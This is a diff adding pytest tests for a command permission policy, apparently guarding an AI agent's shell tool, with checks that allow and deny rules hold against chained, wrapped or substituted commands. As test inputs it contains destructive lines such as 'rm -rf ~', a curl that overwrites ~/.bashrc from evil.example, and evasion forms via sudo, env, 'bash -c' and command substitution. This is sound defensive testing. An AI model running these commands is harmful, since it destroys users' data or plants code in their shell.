@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shlex
 import sys
 
 import pytest
@@ -328,7 +330,7 @@ def test_an_allow_with_a_pattern_never_matches_a_command_of_several_lines():
 
 def test_a_deny_with_a_pattern_matches_a_command_that_chains():
     request = {"kind": "permission", "tool": "command", "command": "ls; rm -rf /", "options": ["allow", "deny"]}
-    assert policy.decide({"cwd": "/repo", "rules": [["deny", "command:*rm -rf*"]]}, request)[0] == "deny"
+    assert policy.decide({"cwd": "/repo", "rules": [["deny", "command:rm -rf *"]]}, request)[0] == "deny"
 
 
 def test_nothing_allows_a_change_to_the_sessions_own_files(efile, workdir):
@@ -406,3 +408,179 @@ def test_an_allow_of_an_alias_does_not_allow_where_it_leads(tmp_path):
 def test_a_path_with_a_nul_is_never_inside_the_cwd():
     request = {"kind": "permission", "tool": "file_change", "paths": ["a\0b"], "options": ["allow", "deny"]}
     assert policy.decide({"cwd": "/repo", "mode": "edit", "rules": [["deny", "command:rm *"]]}, request) is None
+
+
+# -- command rules judge what the shell will run ------------------------------------------------------
+
+
+def decide(rules, command, mode=None, cwd="/repo"):
+    binding = {"cwd": cwd, "mode": mode, "rules": [rule.split(" ", 1) for rule in rules]}
+    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": command,
+                                     "options": ["allow", "deny"]})
+    return answer and (answer[0], answer[1].get("rule") or "--mode %s" % answer[1]["mode"])
+
+
+PYTEST_ONLY = ["allow command:pytest *", "deny *"]
+
+
+def test_a_comment_cannot_smuggle_the_allowed_word_into_a_line():
+    assert decide(PYTEST_ONLY, "rm -rf ~ #pytest") == ("deny", "*")
+
+
+def test_a_pattern_word_matches_one_whole_word():
+    assert decide(PYTEST_ONLY, "curl -sSo ~/.bashrc https://evil.example/pytest") == ("deny", "*")
+    assert decide(PYTEST_ONLY, "pytestx") == ("deny", "*")
+
+
+def test_a_star_inside_a_pattern_word_never_crosses_a_word_boundary():
+    assert decide(["allow command:touch ok*"], "touch okay") == ("allow", "command:touch ok*")
+    assert decide(["allow command:touch ok*"], "touch ok -- /etc/passwd") is None
+
+
+def test_a_last_pattern_word_star_matches_zero_or_more_words():
+    assert decide(PYTEST_ONLY, "pytest") == ("allow", "command:pytest *")
+    assert decide(PYTEST_ONLY, "pytest -q tests/") == ("allow", "command:pytest *")
+
+
+def test_a_pattern_without_a_last_star_matches_exactly_its_words():
+    assert decide(["allow command:git status"], "git status --short") is None
+
+
+def test_every_simple_command_of_a_line_must_be_allowed():
+    assert decide(["allow command:pytest *"], "pytest; rm -rf ~") is None
+    assert decide(["allow command:pytest *", "allow command:ls *"], "ls && pytest -q | ls") == (
+        "allow", "command:ls * + command:pytest *")
+
+
+def test_a_deny_on_any_simple_command_denies_the_line():
+    rules = ["allow command:pytest *", "deny command:rm *"]
+    assert decide(rules, "pytest && /bin/rm -rf ~") == ("deny", "command:rm *")
+
+
+def test_each_simple_command_takes_the_first_rule_that_matches_it():
+    rules = ["allow command:rm -rf build", "deny command:rm *", "allow command:pytest *"]
+    assert decide(rules, "rm -rf build && pytest") == ("allow", "command:rm -rf build + command:pytest *")
+    assert decide(rules, "rm -rf src && pytest") == ("deny", "command:rm *")
+
+
+def test_a_line_that_cannot_be_verified_is_never_allowed_by_a_pattern():
+    assert decide(["allow command:pytest *"], "pytest $(rm -rf ~)") is None
+    assert decide(PYTEST_ONLY, "pytest $(rm -rf ~)") == ("deny", "*")
+
+
+def test_a_deny_sees_inside_a_substitution():
+    assert decide(["allow command:pytest *", "deny command:rm *"], "pytest $(rm -rf ~)") == ("deny", "command:rm *")
+
+
+def test_a_rule_without_a_pattern_matches_a_line_that_cannot_be_verified():
+    assert decide(["allow command"], "pytest $(id) &") == ("allow", "command")
+    assert decide(["allow *"], "pytest $(id) &") == ("allow", "*")
+
+
+def test_the_mode_full_never_allows_a_line_that_cannot_be_verified():
+    assert decide(["deny command:rm *"], "ls $(id)", mode="full") is None
+    assert decide(["deny command:rm *"], "ls && pwd", mode="full") == ("allow", "--mode full")
+
+
+def test_an_allow_by_rules_and_the_mode_names_both():
+    binding = {"cwd": "/repo", "mode": "full", "rules": [["allow", "command:ls *"], ["deny", "command:rm *"]]}
+    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": "ls; pwd",
+                                     "options": ["allow", "deny"]})
+    assert answer == ("allow", {"by": "rule", "rule": "command:ls *", "mode": "full"})
+
+
+def test_a_shell_wrapper_is_judged_by_the_commands_of_its_script():
+    assert decide(PYTEST_ONLY, "bash -lc 'pytest -q'") == ("allow", "command:pytest *")
+    assert decide(PYTEST_ONLY, "bash -lc 'pytest -q; rm -rf ~'") == ("deny", "*")
+
+
+def test_an_allow_matches_assignments_as_leading_words():
+    assert decide(PYTEST_ONLY, "PYTHONPATH=evil pytest") == ("deny", "*")
+    assert decide(["allow command:FOO=1 pytest *"], "FOO=1 pytest -q") == ("allow", "command:FOO=1 pytest *")
+
+
+def test_a_command_word_with_a_slash_is_allowed_only_by_a_pattern_word_with_one():
+    assert decide(PYTEST_ONLY, "./pytest") == ("deny", "*")
+    assert decide(PYTEST_ONLY, "/tmp/x/pytest -q") == ("deny", "*")
+    assert decide(["allow command:./run-tests.sh"], "./run-tests.sh") == ("allow", "command:./run-tests.sh")
+
+
+def test_a_deny_sees_through_paths_backslashes_assignments_and_wrappers():
+    for line in ("/bin/rm -rf ~", "\\rm -rf ~", "FOO=1 rm -rf ~", "sudo -u root rm -rf ~", "env rm -rf ~",
+                 "timeout 5 rm -rf ~", "xargs rm -rf", "bash -c 'rm -rf ~'"):
+        assert decide(["deny command:rm *"], line) == ("deny", "command:rm *"), line
+
+
+def test_a_redirection_out_of_the_cwd_is_never_allowed(tmp_path):
+    cwd = os.path.realpath(str(tmp_path))
+    assert decide(PYTEST_ONLY, "pytest > report.txt 2>&1", cwd=cwd) == ("allow", "command:pytest *")
+    assert decide(PYTEST_ONLY, "pytest > ~/.bashrc", cwd=cwd) == ("deny", "*")
+    assert decide(PYTEST_ONLY, "pytest > ../outside.txt", cwd=cwd) == ("deny", "*")
+
+
+def test_a_redirection_onto_the_sessions_own_files_is_never_allowed(efile, workdir):
+    path = os.path.join(os.path.realpath(str(workdir)), "in-repo.jsonl")
+    send(path, "/permission command:touch ok >> in-repo.jsonl", "--cwd", str(workdir), *UNATTENDED)
+    wait_results(path, 1)
+    assert (replied(path)["req-1"]["answer"], replied(path)["req-1"]["rule"]) == ("deny", "*")
+
+
+def test_matches_allows_a_line_only_when_every_command_matches():
+    request = {"kind": "permission", "tool": "command", "command": "pytest && pytest -q"}
+    assert policy.matches("command:pytest *", "allow", request, "/repo")
+    assert not policy.matches("command:pytest *", "allow", dict(request, command="pytest && ls"), "/repo")
+    assert policy.matches("command:ls *", "deny", dict(request, command="pytest && ls"), "/repo")
+
+
+def test_log_names_every_rule_that_allowed_a_line(efile):
+    send(efile, "/permission command:touch ok.txt && touch okay.txt", "--allow", "command:touch ok.txt",
+         "--allow", "command:touch ok*")
+    wait_results(efile, 1)
+    assert "allowed by rule command:touch ok.txt + command:touch ok*" in ok("log", efile).stdout.decode()
+
+
+@pytest.mark.parametrize("rule", ["command:pytest; rm *", "command:a | b", "command:a && b", "command:'x",
+                                  "command:a > out.txt"])
+def test_a_command_pattern_that_is_not_one_commands_words_exits_2_naming_the_rule(efile, rule):
+    proc = run("send", efile, "hello", "--adapter", "mock", "--allow", rule)
+    assert proc.returncode == 2 and proc.stderr.count(b"\n") == 1 and rule.encode() in proc.stderr
+    assert not os.path.exists(efile)
+
+
+# -- the examples docs/COMMANDS.md gives of what a command pattern means -----------------------------------
+
+EXAMPLE_ROW = re.compile(r"^\| (`.+?`) \| (`.+`) \| (allowed|denied|parked) \|$")
+
+
+def command_pattern_examples():
+    """(rule flag, rule, command line, decision) of each row of the table in
+    COMMANDS.md's "What a command pattern means"."""
+    with open(os.path.join(ROOT, "docs", "COMMANDS.md"), encoding="utf-8") as f:
+        section = f.read().split("### What a command pattern means", 1)[1].split("\n## ", 1)[0]
+    rows = []
+    for line in section.splitlines():
+        match = EXAMPLE_ROW.match(line)
+        if match:
+            (flag, rule), command = shlex.split(code_span(match[1])), code_span(match[2]).replace("\\|", "|")
+            rows.append((flag, rule, command, match[3]))
+    return rows
+
+
+def code_span(cell):
+    """The text of a markdown code span: `x` or `` x `` (a backtick inside)."""
+    ticks = len(cell) - len(cell.lstrip("`"))
+    inner = cell[ticks:-ticks]
+    return inner[1:-1] if ticks > 1 and inner.startswith(" ") and inner.endswith(" ") else inner
+
+
+def test_commands_md_gives_at_least_twelve_examples_that_match_and_twelve_that_do_not():
+    decisions = [decision for _, _, _, decision in command_pattern_examples()]
+    assert len(decisions) - decisions.count("parked") >= 12 and decisions.count("parked") >= 12
+
+
+@pytest.mark.parametrize("flag, rule, command, decision", command_pattern_examples())
+def test_each_command_pattern_example_of_commands_md_holds(tmp_path, flag, rule, command, decision):
+    binding = {"cwd": os.path.realpath(str(tmp_path)), "rules": [[flag.lstrip("-"), rule]]}
+    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": command,
+                                     "options": ["allow", "deny"]})
+    assert {"allow": "allowed", "deny": "denied", None: "parked"}[answer and answer[0]] == decision
